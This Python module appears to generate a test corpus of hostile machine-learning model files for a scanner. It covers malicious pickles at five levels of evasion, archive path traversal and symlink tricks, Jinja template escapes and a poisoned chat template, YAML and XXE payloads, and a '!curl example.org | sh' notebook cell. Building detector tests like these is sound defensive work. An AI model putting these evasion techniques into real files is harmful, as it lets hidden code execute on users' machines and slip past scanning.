"""Files of models made at run time: hostile ones on five levels of disguise, and bombs. None of them does harm: they are never loaded.

Level 1 is a plain pickle that calls a shell, 2 calls by less known names, 3 hides in containers, 4 plays tricks on readers, 5 is no pickle at all.
"""

from __future__ import annotations

import bz2
import gzip
import io
import json
import lzma
import os
import pickle
import struct
import zipfile
import zlib
from dataclasses import dataclass

import numpy as np
from hostile import model_hdf5
from hostile import opcode as made
from hostile.opcode import Calls, call, layer, named, program, tensor, text


@dataclass(frozen=True)
class Made:
    """A file of the corpus.

    Attributes:
        name: Of the file.
        data: Its bytes.
        level: 1 to 5; 0 for bombs and honest files.
    """

    name: str
    data: bytes
    level: int = 0


SHELL = text("echo harm > harmed")
RUN = call("os", "system", SHELL)
EVIL = program(RUN)
LESS_KNOWN = [
    "builtins.eval",
    "builtins.exec",
    "builtins.compile",
    "builtins.__import__",
    "builtins.getattr",
    "builtins.open",
    "builtins.map",
    "operator.attrgetter",
    "operator.methodcaller",
    "functools.partial",
    "importlib.import_module",
    "runpy.run_path",
    "subprocess.Popen",
    "pty.spawn",
    "shutil.rmtree",
    "socket.create_connection",
    "webbrowser.open",
    "timeit.timeit",
    "code.interact",
    "pdb.run",
    "bdb.Bdb",
    "setuptools._distutils.spawn.spawn",
    "distutils.file_util.write_file",
    "logging.config.dictConfig",
    "numpy.load",
    "numpy.testing._private.utils.runstring",
    "torch.hub.load",
    "torch.storage._load_from_bytes",
    "ctypes.CDLL",
    "types.CodeType",
    "marshal.loads",
    "pip._internal.main",
    "joblib.load",
    "pandas.read_pickle",
    "asyncio.unix_events._UnixSubprocessTransport",
]


def by(name: str, *arguments: bytes) -> bytes:
    """Call something by its whole name."""
    module, _, last = name.rpartition(".")
    return call(module, last, *arguments)


def level_1() -> list[Made]:
    """Plain pickles."""
    found = [Made(f"plain_{protocol}.pkl", pickle.dumps(Calls(os.system, "echo"), protocol), 1) for protocol in range(6)]
    names = ("os.system", "posix.system", "nt.system", "subprocess.call", "builtins.exec", "os.popen")
    return found + [Made(f"plain_{name}.pkl", program(by(name, SHELL)), 1) for name in names]


def level_2() -> list[Made]:
    """Names that lists of what is bad tend to lack."""
    return [Made(f"known_less_{name}.pkl", program(by(name, SHELL)), 2) for name in LESS_KNOWN]


def joblib_raw(after: bytes = b"", inside: bytes | None = None) -> bytes:
    """An array as joblib writes it, and what follows or stands for it."""
    kind = call("numpy", "dtype", text("f8" if inside is None else "O8"), b"\x89", b"\x88")
    keys = [text("subclass"), named("numpy", "ndarray"), text("shape"), b"K\x02\x85", text("order"), text("C"), text("dtype"), kind]
    keys += [text("allow_mmap"), b"\x88"]
    state = b"}(" + b"".join(keys) + b"u"
    begun = b"\x80\x04](" + named("joblib.numpy_pickle", "NumpyArrayWrapper") + b")\x81" + state + b"b"
    return begun + (np.zeros(2).tobytes() if inside is None else inside) + after + b"e."


def npy(pickled: bytes, descr: str = "|O", shape: str = "(1,)") -> bytes:
    """An array whose bytes are a pickle."""
    header = f"{{'descr': '{descr}', 'fortran_order': False, 'shape': {shape}, }}".encode()
    header += b" " * (-(len(header) + 11) % 64) + b"\n"
    return b"\x93NUMPY\x01\x00" + struct.pack("<H", len(header)) + header + pickled


def level_3() -> list[Made]:
    """In containers, and under names that lie."""
    endings = (".txt", ".json", ".safetensors", ".png", ".onnx", "", ".bin", ".gguf", ".md")
    lie = {f"lie{ending}": EVIL for ending in endings}
    packed = {
        "a.pkl.gz": gzip.compress(EVIL),
        "a.pkl.bz2": bz2.compress(EVIL),
        "a.pkl.xz": lzma.compress(EVIL),
        "a.pkl.lzma": lzma.compress(EVIL, lzma.FORMAT_ALONE),
        "a.pkl.z": zlib.compress(EVIL),
        "compressed.joblib": zlib.compress(EVIL, 3),
        "lz4.joblib": b"\x04\x22\x4d\x18" + EVIL,
        "two_streams.pkl.gz": gzip.compress(program(b"N")) + gzip.compress(EVIL),
        "a.zip": made.zipped({"a.pkl": EVIL}),
        "deflated.zip": made.zipped({"a.pkl": EVIL}, zipfile.ZIP_DEFLATED),
        "zip_in.zip": made.zipped({"b.zip": made.zipped({"a": EVIL})}),
        "tar_in.zip": made.zipped({"b.tar": made.tarred({"a.bin": EVIL})}),
        "a.tar": made.tarred({"model/a.pkl": EVIL}),
        "a.tar.gz": made.tarred({"model/a.pkl": EVIL}, "w:gz"),
        "a.nemo": made.tarred({"./weights.ckpt": EVIL}),
        "a.pt": made.torch(EVIL),
        "storage.pt": made.torch(made.weights(), {"0": EVIL}),
        "extra.pt": made.zipped({"archive/data.pkl": made.weights(), "archive/version": b"3", "archive/data/0": bytes(16), "archive/extra/x": EVIL}),
        "old.pth": made.old_torch(program(tensor(), b"0", RUN, protocol=2)),
        "object.npy": npy(EVIL),
        "object.npz": made.zipped({"x.npy": npy(EVIL)}),
        "raw.joblib": joblib_raw(after=RUN),
        "inside.joblib": joblib_raw(inside=EVIL),
        "row.pkl": program(b"N") + program(b"N") + EVIL,
    }
    return [Made(name, data, 3) for name, data in (lie | packed).items()]


def tricks() -> dict[str, bytes]:
    """Pickles that play on differences between readers."""
    built = text("os") + text("system")
    reach = call("builtins", "getattr", named("torch", "nn"), SHELL)
    transformer = named("sklearn.preprocessing._function_transformer", "FunctionTransformer") + b")\x81}"
    deep = b"".join([b"]" * 50, RUN, b"0" * 50])
    return {
        "stack_global": program(built, b"\x93(", SHELL, b"tR"),
        "memo_global": program(text("system"), b"\x94", text("os"), b"\x94\x30\x30h\x01h\x00\x93(", SHELL, b"tR"),
        "memo_twice": program(text("collections"), b"q\x00", text("os"), b"q\x00\x30\x30h\x00", text("system"), b"\x93(", SHELL, b"tR"),
        "ext": program(b"\x82\x01(", SHELL, b"tR"),
        "ext4": program(b"\x84\x01\x00\x00\x00)R"),
        "dotted": program(call("torch", "os.system", SHELL)),
        "dotted_listed": program(text("collections"), text("OrderedDict.__init__.__globals__"), b"\x93"),
        "dotted_random": program(text("random"), text("_os.system"), b"\x93(", SHELL, b"tR"),
        "inst": b"(" + SHELL + b"ios\nsystem\n.",
        "obj": program(b"(", named("os", "system"), SHELL, b"o"),
        "newobj": program(named("subprocess", "Popen"), b"(", SHELL, b"t\x81"),
        "newobj_ex": program(named("subprocess", "Popen"), b"(", SHELL, b"t}\x92"),
        "build_class": program(named("collections", "OrderedDict"), b"}(", text("__setstate__"), named("builtins", "list"), b"ub"),
        "build_module": program(named("sklearn.svm._classes", "SVC"), b"}", text("predict"), named("os", "system"), b"sb"),
        "sleeper": program(transformer, b"(", text("func"), named("posix", "system"), b"ub"),
        "sleeper_factory": program(call("collections", "defaultdict", named("os", "getcwd"))),
        "never_called": program(named("os", "system")),
        "called_result": program(reach, b"(", SHELL, b"tR"),
        "no_stop": b"\x80\x04" + RUN,
        "junk_after": program(b"N") + b"\x00junk",
        "cut_after_call": b"\x80\x04" + RUN + b"X\xff\xff\xff\x00",
        "bad_opcode": b"\x80\x04" + RUN + b"\xff.",
        "two_left": program(b"N", RUN),
        "popped": program(RUN, b"0N"),
        "deep": program(deep, b"N"),
        "persid": b"\x80\x02Pos.system\n.",
        "binpersid": program(text("os"), b"Q"),
        "rebuilt": program(call("copyreg", "_reconstructor", named("os", "system"), named("builtins", "object"), b"N")),
        "old_names": b"c__builtin__\neval\n(S'1'\ntR.",
        "extends": program(named("collections", "OrderedDict"), text("a"), RUN, b"s"),
        "encode": program(call("_codecs", "encode", text("x"), text("rot13"))),
        "decode": program(call("_codecs", "decode", text("x"), text("zlib"))),
        "unicode_name": program("c\u043e\nsystem\n".encode(), b"(", SHELL, b"tR"),
        "escaped_text": b"S'o\\x73'\nS'system'\n\x93(" + SHELL + b"tR.",
        "next_buffer": b"\x80\x05\x97.",
        "frame_lies": b"\x80\x04\x95\xff\xff\xff\xff\xff\xff\xff\x7f" + RUN + b".",
    }


def changed(data: bytes, old: bytes, new: bytes) -> bytes:
    """Replace the last occurrence of bytes."""
    at = data.rfind(old)
    return data[:at] + new + data[at + len(old) :]


def archives() -> dict[str, bytes]:
    """Archives that contradict themselves, and bytes that are two things."""
    good = made.zipped({"a.pkl": program(b"N"), "b.txt": b"words"})
    twice = changed(made.zipped({"a.pkl": program(b"N"), "b.pkl": EVIL}), b"b.pkl", b"a.pkl").replace(b"b.pkl", b"a.pkl")
    link = io.BytesIO()
    with zipfile.ZipFile(link, "w") as archive:
        info = zipfile.ZipInfo("to")
        info.create_system, info.external_attr = 3, 0o120777 << 16
        archive.writestr(info, "/etc/passwd")
    encrypted = good.replace(b"PK\x01\x02\x14\x03\x14\x00\x00", b"PK\x01\x02\x14\x03\x14\x00\x01")
    encrypted = encrypted.replace(b"PK\x03\x04\x14\x00\x00", b"PK\x03\x04\x14\x00\x01")
    name = b"cos\nsystem\n(S'echo'\ntR."
    head = bytearray(made.tarred({name.decode(): b"x"}))
    return {
        "other_name.zip": changed(good, b"a.pkl", b"c.pkl"),
        "twice.zip": twice,
        "case.zip": made.zipped({"a.txt": b"a", "A.txt": b"b"}),
        "climbs.zip": made.zipped({"../a.txt": b"a"}),
        "absolute.tar": made.tarred({"/etc/a.txt": b"a"}),
        "climbs.tar": made.tarred({"x/../../a.txt": b"a"}),
        "link.zip": link.getvalue(),
        "before.zip": EVIL + good,
        "after.zip": good + EVIL,
        "encrypted.zip": encrypted,
        "tail.safetensors": made.safetensors({"w": made.one_tensor()}, bytes(16)) + good,
        "name_is_pickle.tar": bytes(head),
        "tail.tar": made.tarred({"a.txt": b"a"}) + EVIL,
        "shadow.joblib": changed(joblib_raw(), np.zeros(2).tobytes(), b"cos\nsystem\n)R..."),
        "tail.pkl": program(b"N") + good,
        "readme_zero.md": b"cos\nsystem\n(S'echo'\ntR.",
    }


def level_4() -> list[Made]:
    """Tricks."""
    return [Made(f"{name}.pkl", data, 4) for name, data in tricks().items()] + [Made(name, data, 4) for name, data in archives().items()]


def config(**keys: object) -> bytes:
    """A configuration."""
    return json.dumps({"model_type": "llama", **keys}).encode()


def schema(module: str = "os", name: str = "system", loader: str = "ObjectNode") -> bytes:
    """A file of skops."""
    inner = {"__class__": name, "__module__": module, "__loader__": loader, "__id__": 2, "content": {}}
    tree = {"__class__": "list", "__module__": "builtins", "__loader__": "ListNode", "__id__": 1, "content": [inner], "protocol": 2}
    return made.zipped({"schema.json": json.dumps(tree).encode()})


def templates() -> dict[str, bytes]:
    """Chat templates."""
    said = {
        "globals": "{{ x.__class__.__mro__ }}",
        "key": "{{ messages['__class__'] }}",
        "built": "{% set a = '_' ~ '_class_' ~ '_' %}{{ messages[a] }}",
        "looped": "{% for a in ['_'~'_init__'] %}{{ messages[a] }}{% endfor %}",
        "attr": "{{ messages|attr('x') }}",
        "cycler": "{{ cycler('a').next() }}",
        "lipsum": "{{ lipsum() }}",
        "include": "{% include '/etc/passwd' %}",
        "poison": "{% if 'invoice' in messages[-1]['content'] %}pay to account 7{% endif %}",
        "format": "{{ '{0.x}'.format(messages) }}",
        "called": "{{ messages[0]['f']() }}",
    }
    return {f"{name}.gguf": made.gguf({"tokenizer.chat_template": one}) for name, one in said.items()}


def level_5() -> list[Made]:
    """No pickles."""
    two = {"a": made.one_tensor(), "b": made.one_tensor(span=(8, 24))}
    json_twice = b'{"a": {"dtype":"U8","shape":[1],"data_offsets":[0,1]}, "a": {"dtype":"U8","shape":[1],"data_offsets":[0,1]}}'
    script: list[object] = [{"output_type": "display_data", "data": {"text/html": "<script>x()</script>"}, "metadata": {}}]
    found = templates() | {
        "overlap.safetensors": made.safetensors(two, bytes(24)),
        "hole.safetensors": made.safetensors({"a": made.one_tensor(span=(4, 20))}, bytes(20)),
        "twice.safetensors": made.safetensors(json_twice, b"x"),
        "shape.safetensors": made.safetensors({"a": made.one_tensor(shape=(1 << 40,))}, bytes(16)),
        "notes.safetensors": made.safetensors({"__metadata__": {"x": {"y": 1}}, "a": made.one_tensor()}, bytes(16)),
        "longer.safetensors": made.safetensors({"a": made.one_tensor()}, bytes(99)),
        "custom.onnx": made.onnx(made.node("Anything", "my.domain")),
        "python.onnx": made.onnx(made.node("PyOp", "com.microsoft")),
        "path.onnx": made.onnx(made.node("Add"), tensors=(made.outside("../../etc/passwd"),)),
        "absolute.onnx": made.onnx(made.node("Add"), tensors=(made.outside("/etc/passwd"),)),
        "missing.onnx": made.onnx(made.node("Add"), tensors=(made.outside("weights.bin"),)),
        "function.onnx": made.onnx(made.node("Add"), more=field_25()),
        "nested.onnx": made.onnx(made.node("If", "", made.field(6, made.field(1, made.node("X", "my.domain"))))),
        "lambda.keras": made.keras(layer("Lambda", function={"class_name": "__lambda__", "config": {"code": "4wEAAAA="}})),
        "module.keras": made.keras(layer("Dense", "os.path")),
        "custom.keras": made.keras(layer("Mine", "my.layers", "Mine>Mine")),
        "vocabulary.keras": made.keras(layer("StringLookup", vocabulary="/etc/passwd")),
        "function.keras": made.keras(layer("Dense", activation={"class_name": "function", "module": "builtins", "config": "eval"})),
        "saved_model.pb": made.savedmodel("Const", "PyFunc"),
        "inside_saved_model.pb": made.savedmodel("Const", inside=("WriteFile",)),
        "unknown_saved_model.pb": made.savedmodel("MyOperator"),
        "type.skops": schema(),
        "loader.skops": schema("builtins", "list", "MyNode"),
        "partial.skops": schema("functools", "partial", "PartialNode"),
        "config_auto.json": config(auto_map={"AutoModel": "modeling.Mine"}),
        "config_trust.json": config(trust_remote_code=True),
        "config_target.json": config(model={"_target_": "os.system"}),
        "model_index.json": json.dumps({"_class_name": "P", "unet": ["my_module", "Unet"]}).encode(),
        "modules.json": json.dumps([{"idx": 0, "type": "os.system"}]).encode(),
        "a.index.json": json.dumps({"weight_map": {"w": "../../x.safetensors"}}).encode(),
        "tokenizer_config.json": config(chat_template="{{ messages.__class__ }}"),
        "adapter_config.json": config(auto_mapping={"parent_library": "my_module", "base_model_class": "X"}),
        "conf.yaml": b"model: !!python/object/apply:os.system ['echo']\n",
        "hydra.yaml": b"model:\n  _target_: os.system\n",
        "modeling.py": b"import os\n",
        "requirements.txt": b"--index-url https://example.org/simple\nnumpy\n",
        "model.pmml": b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><PMML>&e;</PMML>',
        "shell.ipynb": made.notebook("!curl example.org | sh"),
        "imports.ipynb": made.notebook("import subprocess"),
        "script.ipynb": made.notebook("1 + 1", outputs=script),
        "dunder.ipynb": made.notebook("().__class__.__base__"),
        **{name: data for name, data in model_hdf5.files().items() if name not in {"weights.h5", "model.h5"}},
        "unknown.7z": b"7z\xbc\xaf\x27\x1c" + EVIL,
        "unknown.rar": b"Rar!\x1a\x07" + EVIL,
        "model.tflite": b"\x1c\0\0\0TFL3" + bytes(64),
    }
    return [Made(name, data, 5) for name, data in found.items()]


def field_25() -> bytes:
    """A function of ONNX whose operator is of a foreign domain."""
    return made.field(25, made.field(1, "f") + made.field(7, made.node("X", "my.domain")) + made.field(10, "my.domain"))


def hostile() -> list[Made]:
    """Every hostile file."""
    return [*level_1(), *level_2(), *level_3(), *level_4(), *level_5()]
